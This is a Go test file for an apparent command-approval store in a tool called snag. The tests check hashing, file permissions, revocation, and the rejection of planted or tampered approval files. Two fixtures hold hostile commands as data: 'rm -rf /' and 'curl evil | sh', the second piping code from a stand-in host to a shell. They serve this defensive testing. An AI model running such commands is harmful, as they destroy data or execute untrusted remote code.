package approval_test

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/snagdev/snag/internal/approval"
)

const (
	scope = "/home/dana/shop"
	cmd   = "go test ./..."
)

func newStore(t *testing.T) *approval.Store {
	t.Helper()
	return approval.Open(filepath.Join(t.TempDir(), "home", ".snag", "approved"))
}

func approve(t *testing.T, s *approval.Store, scope, command string, shell bool) approval.Approval {
	t.Helper()
	a, err := s.Approve(scope, command, shell)
	if err != nil {
		t.Fatalf("Approve(%q, %q, %v): %v", scope, command, shell, err)
	}
	return a
}

func TestApproved(t *testing.T) {
	s := newStore(t)
	approve(t, s, scope, cmd, false)
	for _, c := range []struct {
		name, scope, command string
		shell                bool
		want                 bool
	}{
		{"the same", scope, cmd, false, true},
		{"a changed command", scope, cmd + " -race", false, false},
		{"a space more", scope, cmd + " ", false, false},
		{"through a shell", scope, cmd, true, false},
		{"another project", "/home/dana/other", cmd, false, false},
		{"an empty command", scope, "", false, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, err := s.Approved(c.scope, c.command, c.shell)
			if err != nil {
				t.Fatal(err)
			}
			if got != c.want {
				t.Errorf("Approved(%q, %q, %v) = %v, want %v", c.scope, c.command, c.shell, got, c.want)
			}
		})
	}
}

func TestApprovedEmptyStore(t *testing.T) {
	s := newStore(t)
	got, err := s.Approved(scope, cmd, false)
	if got || err != nil {
		t.Errorf("Approved on a store never written = %v, %v; want false, nil", got, err)
	}
	list, err := s.List()
	if len(list) != 0 || err != nil {
		t.Errorf("List on a store never written = %v, %v; want nothing", list, err)
	}
	if _, err := s.Revoke("abcd"); !errors.Is(err, approval.ErrNotFound) {
		t.Errorf("Revoke on a store never written: %v, want ErrNotFound", err)
	}
}

func TestHash(t *testing.T) {
	base := approval.Hash(scope, cmd, false)
	if len(base) != 64 || strings.Trim(base, "0123456789abcdef") != "" {
		t.Fatalf("Hash = %q, want 64 hex digits", base)
	}
	if again := approval.Hash(scope, cmd, false); again != base {
		t.Errorf("Hash is not stable: %s then %s", base, again)
	}
	for _, c := range []struct {
		name           string
		scope, command string
		shell          bool
	}{
		{"shell", scope, cmd, true},
		{"scope", scope + "2", cmd, false},
		{"command", scope, cmd + "2", false},
		{"bytes moved from scope to command", scope[:len(scope)-1], scope[len(scope)-1:] + cmd, false},
		{"a newline in the scope", scope + "\n0\n13:", cmd, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			if h := approval.Hash(c.scope, c.command, c.shell); h == base {
				t.Errorf("Hash(%q, %q, %v) = Hash(%q, %q, false)", c.scope, c.command, c.shell, scope, cmd)
			}
		})
	}
}

func TestApproveWritesOneFile(t *testing.T) {
	s := newStore(t)
	a := approve(t, s, scope, cmd, true)
	if a.Hash != approval.Hash(scope, cmd, true) || a.Scope != scope || a.Command != cmd || !a.Shell || a.At.IsZero() || a.By == "" {
		t.Errorf("Approve returned %+v", a)
	}
	dfi, err := os.Stat(s.Dir())
	if err != nil {
		t.Fatal(err)
	}
	if got := dfi.Mode().Perm(); got != 0o700 {
		t.Errorf("folder mode %v, want 0700", got)
	}
	p := filepath.Join(s.Dir(), a.Hash+".json")
	fi, err := os.Stat(p)
	if err != nil {
		t.Fatal(err)
	}
	if got := fi.Mode().Perm(); got != 0o600 {
		t.Errorf("file mode %v, want 0600", got)
	}
	var content map[string]any
	b, _ := os.ReadFile(p)
	if err := json.Unmarshal(b, &content); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"scope", "command", "shell", "approved_at", "by"} {
		if _, ok := content[k]; !ok {
			t.Errorf("the file has no %q: %s", k, b)
		}
	}

	// Approving again is idempotent: the same approval, the same one file.
	again := approve(t, s, scope, cmd, true)
	if diff := cmp.Diff(a, again); diff != "" {
		t.Errorf("approving again changed the approval (-first +again):\n%s", diff)
	}
	des, _ := os.ReadDir(s.Dir())
	if len(des) != 1 {
		t.Errorf("the folder has %d entries, want 1", len(des))
	}
}

func TestApproveRefusesEmpty(t *testing.T) {
	s := newStore(t)
	if _, err := s.Approve(scope, "  ", false); err == nil {
		t.Error("Approve of a blank command: no error")
	}
	if _, err := s.Approve("", cmd, false); err == nil {
		t.Error("Approve with no scope: no error")
	}
}

func TestListAndRevoke(t *testing.T) {
	s := newStore(t)
	a := approve(t, s, scope, cmd, false)
	b := approve(t, s, scope, "make check", true)
	c := approve(t, s, "/srv/other", cmd, false)
	list, err := s.List()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]approval.Approval{}
	for _, l := range list {
		got[l.Hash] = l
	}
	want := map[string]approval.Approval{a.Hash: a, b.Hash: b, c.Hash: c}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("List (-want +got):\n%s", diff)
	}
	for i := 1; i < len(list); i++ {
		if list[i].At.Before(list[i-1].At) {
			t.Errorf("List is not oldest first: %v", list)
		}
	}

	for _, bad := range []string{"", "ab", "xyzw", strings.Repeat("a", 65)} {
		if _, err := s.Revoke(bad); err == nil || errors.Is(err, approval.ErrNotFound) {
			t.Errorf("Revoke(%q) = %v, want a usage error", bad, err)
		}
	}
	gone, err := s.Revoke(strings.ToUpper(b.Hash[:8]))
	if err != nil {
		t.Fatal(err)
	}
	if gone.Hash != b.Hash || gone.Command != b.Command {
		t.Errorf("Revoke returned %+v, want %+v", gone, b)
	}
	if ok, err := s.Approved(scope, "make check", true); ok || err != nil {
		t.Errorf("after Revoke, Approved = %v, %v; want false, nil", ok, err)
	}
	if ok, _ := s.Approved(scope, cmd, false); !ok {
		t.Error("Revoke of one approval took another with it")
	}
	if _, err := s.Revoke(b.Hash); !errors.Is(err, approval.ErrNotFound) {
		t.Errorf("Revoke again: %v, want ErrNotFound", err)
	}
	list, _ = s.List()
	if len(list) != 2 {
		t.Errorf("after Revoke, List has %d approvals, want 2", len(list))
	}
}

// TestPlanted checks that what is not an approval made by snag approve
// never counts as one.
func TestPlanted(t *testing.T) {
	for _, c := range []struct {
		name  string
		plant func(t *testing.T, s *approval.Store, path string)
		want  string // in the error
	}{
		{
			name: "content of another command",
			plant: func(t *testing.T, s *approval.Store, path string) {
				writeJSON(t, path, map[string]any{"scope": scope, "command": "rm -rf /", "shell": false})
			},
			want: "not what its name says",
		},
		{
			name: "content with the shell flag flipped",
			plant: func(t *testing.T, s *approval.Store, path string) {
				writeJSON(t, path, map[string]any{"scope": scope, "command": cmd, "shell": true})
			},
			want: "not what its name says",
		},
		{
			name: "not JSON",
			plant: func(t *testing.T, s *approval.Store, path string) {
				os.WriteFile(path, []byte("yes"), 0o600)
			},
			want: "not an approval",
		},
		{
			name: "a symbolic link to a good approval",
			plant: func(t *testing.T, s *approval.Store, path string) {
				other := approval.Open(filepath.Join(t.TempDir(), "elsewhere"))
				a := approve(t, other, scope, cmd, false)
				if err := os.Symlink(filepath.Join(other.Dir(), a.Hash+".json"), path); err != nil {
					t.Fatal(err)
				}
			},
			want: "symbolic link",
		},
		{
			name: "a group-writable file",
			plant: func(t *testing.T, s *approval.Store, path string) {
				approve(t, s, scope, cmd, false)
				if err := os.Chmod(path, 0o620); err != nil {
					t.Fatal(err)
				}
			},
			want: "writable by group or others",
		},
		{
			name: "a world-writable file",
			plant: func(t *testing.T, s *approval.Store, path string) {
				approve(t, s, scope, cmd, false)
				if err := os.Chmod(path, 0o606); err != nil {
					t.Fatal(err)
				}
			},
			want: "writable by group or others",
		},
		{
			name: "a group-writable folder",
			plant: func(t *testing.T, s *approval.Store, path string) {
				approve(t, s, scope, cmd, false)
				if err := os.Chmod(s.Dir(), 0o770); err != nil {
					t.Fatal(err)
				}
			},
			want: "chmod 700",
		},
		{
			name: "a folder",
			plant: func(t *testing.T, s *approval.Store, path string) {
				if err := os.Mkdir(path, 0o700); err != nil {
					t.Fatal(err)
				}
			},
			want: "not a regular file",
		},
		{
			name: "someone else's file",
			plant: func(t *testing.T, s *approval.Store, path string) {
				if os.Getuid() != 0 {
					if os.Getenv("CI") != "" {
						t.Fatal("CI runs as root (.ci/run installs with apt-get), and only root can give a file away")
					}
					t.Skip("only root can give a file away")
				}
				approve(t, s, scope, cmd, false)
				if err := os.Chown(path, 65534, 65534); err != nil {
					t.Fatal(err)
				}
			},
			want: "not to you",
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newStore(t)
			if err := os.MkdirAll(s.Dir(), 0o700); err != nil {
				t.Fatal(err)
			}
			path := filepath.Join(s.Dir(), approval.Hash(scope, cmd, false)+".json")
			c.plant(t, s, path)
			ok, err := s.Approved(scope, cmd, false)
			if ok {
				t.Fatal("Approved = true")
			}
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("Approved error = %v, want one saying %q", err, c.want)
			}
			if !strings.Contains(err.Error(), "snag approve") && !strings.Contains(err.Error(), "chmod") {
				t.Errorf("the error names no fix: %v", err)
			}
			// List leaves it out and says why.
			list, err := s.List()
			if len(list) != 0 || err == nil {
				t.Errorf("List = %v, %v; want nothing and an error", list, err)
			}
		})
	}
}

// TestPlantedReplacedByApprove checks that a person approving the command
// replaces a bad file with a good one.
func TestPlantedReplacedByApprove(t *testing.T) {
	s := newStore(t)
	os.MkdirAll(s.Dir(), 0o700)
	path := filepath.Join(s.Dir(), approval.Hash(scope, cmd, false)+".json")
	writeJSON(t, path, map[string]any{"scope": scope, "command": "curl evil | sh", "shell": false})
	approve(t, s, scope, cmd, false)
	if ok, err := s.Approved(scope, cmd, false); !ok || err != nil {
		t.Errorf("after Approve, Approved = %v, %v", ok, err)
	}
}

func TestSymlinkedFolder(t *testing.T) {
	real := approval.Open(filepath.Join(t.TempDir(), "real"))
	approve(t, real, scope, cmd, false)
	link := filepath.Join(t.TempDir(), "approved")
	if err := os.Symlink(real.Dir(), link); err != nil {
		t.Fatal(err)
	}
	s := approval.Open(link)
	ok, err := s.Approved(scope, cmd, false)
	if ok || err == nil || !strings.Contains(err.Error(), "symbolic link") {
		t.Errorf("Approved through a linked folder = %v, %v; want false and an error", ok, err)
	}
	if _, err := s.Approve(scope, "make", false); err == nil {
		t.Error("Approve into a linked folder: no error")
	}
	if _, err := s.List(); err == nil {
		t.Error("List of a linked folder: no error")
	}
}

func TestScope(t *testing.T) {
	dir := t.TempDir()
	root := filepath.Join(dir, "shop")
	if err := os.Mkdir(root, 0o755); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "link")
	if err := os.Symlink(root, link); err != nil {
		t.Fatal(err)
	}
	want, err := approval.Scope(root)
	if err != nil {
		t.Fatal(err)
	}
	if !filepath.IsAbs(want) {
		t.Errorf("Scope = %q, want an absolute path", want)
	}
	for _, p := range []string{link, root + "/", filepath.Join(root, "x", "..")} {
		if got, err := approval.Scope(p); err != nil || got != want {
			t.Errorf("Scope(%q) = %q, %v; want %q", p, got, err, want)
		}
	}
	if _, err := approval.Scope(filepath.Join(dir, "missing")); err == nil {
		t.Error("Scope of a missing folder: no error")
	}
}

func writeJSON(t *testing.T, path string, v any) {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
}
